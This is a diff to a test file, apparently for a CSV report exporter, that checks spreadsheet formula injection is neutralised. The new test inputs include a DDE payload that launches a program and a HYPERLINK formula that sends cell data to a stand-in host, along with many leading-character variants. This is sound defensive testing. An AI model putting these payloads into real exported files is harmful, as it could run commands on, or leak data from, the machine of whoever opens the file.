@@ -74,8 +74,53 @@ describe("cells", () => {
     expect(wiki).toMatchObject({ "cells.leaver.state": "automated", "cells.leaver.successes": "12" });
   });
 
-  test.each(["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1"])("the formula %j is neutralised", (formula) => {
+  const FORMULAS = [
+    "=1+1",
+    "+1",
+    "-1",
+    "@SUM(A1)",
+    "\t=1",
+    "\r=1",
+    "\n=1",
+    "\ttext",
+    " =1+1",
+    "\u00a0\u200b=1",
+    '"=1+1',
+    "'=1+1",
+    "＝1+1",
+    "－1",
+    '=HYPERLINK("https://x.example?"&A1,"see")',
+    "=cmd|' /C calc'!A0",
+  ];
+
+  test.each(FORMULAS)("the formula %j is neutralised, in a text and in a list", (formula) => {
     expect(cellsOf("accounts", accountNamed(formula))[0]?.userName).toBe(`'${formula}`);
+    const { accounts } = exampleReports;
+    const rows = accounts.rows.map((row) => ({ ...row, entitlements: [formula, "Editors"] }));
+    expect(cellsOf("accounts", { ...accounts, rows })[0]?.entitlements).toBe(`'${formula}; Editors`);
+  });
+
+  test.each(["alice@larkspur.example", "a=b", "1-2", "O'Brien", '"quoted"', "2026-03-31T09:00:00.000Z"])(
+    "%j is no formula and stays as it is",
+    (text) => {
+      expect(cellsOf("accounts", accountNamed(text))[0]?.userName).toBe(text);
+    },
+  );
+
+  test("no text anywhere in a row of any report can be run, whichever field it is in", () => {
+    for (const name of NAMES) {
+      const report = exampleReports[name];
+      const hostile = (value: unknown): unknown => {
+        if (typeof value === "string") return `=${value}`;
+        if (Array.isArray(value)) return value.map(hostile);
+        if (typeof value !== "object" || value === null) return value;
+        return Object.fromEntries(Object.entries(value).map(([key, member]) => [key, hostile(member)]));
+      };
+      const csv = reportCsv(name, { ...report, rows: report.rows.map(hostile) } as Reports[typeof name]);
+      const [, ...rows] = read(csv);
+      expect(rows.length).toBeGreaterThan(0);
+      for (const cell of rows.flat()) expect(cell).not.toMatch(/^[=+@\t\r\n]/u);
+    }
   });
 
   test("a number below zero stays a number", () => {
@@ -89,7 +134,7 @@ describe("cells", () => {
       fc.property(fc.string({ unit: "binary" }), (text) => {
         const cell = cellsOf("accounts", accountNamed(text))[0]?.userName;
         expect([text, `'${text}`]).toContain(cell);
-        expect(cell).not.toMatch(/^[=+\-@\t\r]/u);
+        expect(cell).not.toMatch(/^[\s"]*[=+\-@]|^[\t\r\n]/u);
       }),
     );
   });
